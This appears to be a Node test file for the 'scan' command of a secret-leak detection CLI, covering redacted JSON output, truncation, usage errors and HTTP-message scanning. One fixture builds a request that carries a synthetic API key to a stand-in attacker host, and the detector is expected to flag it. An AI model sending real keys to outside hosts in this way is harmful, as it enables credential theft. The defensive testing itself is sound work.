// `scan` end to end through the real bin: stdin and file input, --http with own-provider
// context, redacted JSON lines, nothing written anywhere.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fake, fakeToken, B64URL } from '../../lib/patterns/fake.ts';
import { FindingSchema } from '../../lib/finding.ts';

const BIN = new URL('../../bin/clawsec-traffic-guardian.mjs', import.meta.url).pathname;
const KEY = fake('sk-', 'ant-', 'api03-', fakeToken('cli-scan', 93, B64URL), 'AA');

function run(args: string[], input?: string | Buffer, home?: string) {
  const env: NodeJS.ProcessEnv = { PATH: process.env.PATH, HOME: home ?? tmpdir(), NO_COLOR: '1' };
  const r = spawnSync(process.execPath, [BIN, ...args], { input, env, encoding: 'utf8', timeout: 60_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

function lines(stdout: string) {
  return stdout.split('\n').filter(Boolean).map((l) => FindingSchema.parse(JSON.parse(l)));
}

test('scan - reads stdin and prints redacted JSON lines', () => {
  const r = run(['scan', '--direction', 'outbound', '-'], `{"dump":"${KEY}"}`);
  assert.equal(r.code, 0, r.stderr);
  const f = lines(r.stdout);
  assert.equal(f.length, 1);
  assert.equal(f[0]?.pattern, 'ai_api_key');
  assert.ok(!r.stdout.includes(KEY.slice(20, 30)), 'secret piece in output');
  assert.ok(!r.stderr.includes(KEY.slice(20, 30)), 'secret piece in stderr');
});

test('scan --http: own key to its provider is quiet, the same message to another host is found', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ctg-scan-'));
  try {
    const msg = (host: string) => `POST /v1/messages HTTP/1.1\r\nHost: ${host}\r\nx-api-key: ${KEY}\r\ncontent-type: application/json\r\n\r\n{"model":"m","messages":[]}`;
    writeFileSync(join(dir, 'own.http'), msg('api.anthropic.com'));
    writeFileSync(join(dir, 'evil.http'), msg('collector.attacker.test'));
    const own = run(['scan', '--http', join(dir, 'own.http')]);
    assert.equal(own.code, 0, own.stderr);
    assert.equal(lines(own.stdout).length, 0);
    const evil = run(['scan', '--http', join(dir, 'evil.http')]);
    const f = lines(evil.stdout);
    assert.equal(f.length, 1);
    assert.equal(f[0]?.location, 'header:x-api-key');
    assert.match(f[0]?.dest ?? '', /^collector\.attacker\.test:/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('scan writes nothing: no home, no log is created', () => {
  const fakeHome = mkdtempSync(join(tmpdir(), 'ctg-scan-home-'));
  try {
    const r = run(['scan', '--direction', 'outbound', '-'], `${KEY}`, fakeHome);
    assert.equal(r.code, 0);
    assert.deepEqual(readdirSync(fakeHome), []);
  } finally {
    rmSync(fakeHome, { recursive: true, force: true });
  }
});

test('scan marks input past the bound as truncated and still scans its prefix', () => {
  const input = `${KEY} ` + 'z'.repeat(5000);
  const r = run(['scan', '--max-scan-bytes', '2048', '-'], input);
  const f = lines(r.stdout);
  assert.equal(f.length, 1);
  assert.equal(f[0]?.truncated, true);
  assert.match(r.stderr, /cut at the scan bound/);
});

test('scan usage errors exit 2 and name the flag; unreadable input exits 1', () => {
  const bad = run(['scan', '--direction', 'sideways', '-'], '');
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--direction/);
  const missing = run(['scan', join(tmpdir(), 'definitely-missing-file-ctg')]);
  assert.equal(missing.code, 1);
  assert.match(missing.stderr, /cannot read/);
});
